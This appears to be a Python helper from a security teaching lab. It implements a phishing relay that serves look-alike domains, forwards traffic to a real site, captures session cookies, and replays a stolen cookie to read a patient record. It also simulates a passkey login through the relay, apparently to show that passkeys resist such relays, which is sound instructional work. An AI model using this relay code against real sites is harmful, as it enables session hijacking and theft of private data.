"""The phishing relay of lesson 06: a false site that passes everything on to the real one, at once."""

from __future__ import annotations

from typing import Any

from flask import Flask, Response, request

from helpers import lab
from helpers.tasks.authentication import device

LOOK_ALIKE, BLOG = "https://clinic-example.net", "https://blog.clinic.example"


class Relay:
    """A running relay in front of `target`; also a context manager.

    url: its loopback address; taken: the session cookies that passed through it.
    """

    def __init__(self, target: str) -> None:
        self.taken: list[str] = []
        self._client = lab.session()
        app = Flask("relay")
        app.add_url_rule("/<path:path>", "pass_on", self._pass_on, methods=["GET", "POST"])
        self._target = target
        self._server = lab.serve(app, names=[name.removeprefix("https://") for name in (LOOK_ALIKE, BLOG)])
        self.url = self._server.url

    def _pass_on(self, path: str) -> Response:
        self._client.cookies.clear()
        reply = self._client.request(
            request.method,
            f"{self._target}/{path}",
            params=request.args,
            data=request.get_data(),
            headers={"Content-Type": request.content_type or "text/plain"},
        )
        self.taken += [cookie.value or "" for cookie in reply.cookies if cookie.name == "session"]
        return Response(reply.content, reply.status_code, content_type=reply.headers["Content-Type"])

    def __enter__(self) -> Relay:
        return self

    def __exit__(self, *error: Any) -> None:
        self._client.close()
        self._server.stop()


def reads(http: Any, taken: list[str]) -> str:
    """What a thief reads about Ben's patient with the last of these session cookies."""
    reply = http.get("/patients/P-000106", cookies={"session": taken[-1]}).json()
    return str(reply.get("name") or reply["error"])


def press(http: Any, site: str, user: str, phone: device.Authenticator) -> tuple[str, list[str]]:
    """The user touches the phone at a page that a relay shows in the name of `site`.

    Gives back what came of it, in words, and the session cookies that passed through the relay.
    """
    with Relay(http.url) as false:
        browser = device.Browser({site: false.url}, phone)
        try:
            reply = browser.passkey(site, user)
        except device.NoPasskey as error:
            return f"the browser: {error}", []
        return f"{reply.status_code} {reply.json().get('error', 'welcome')}", false.taken
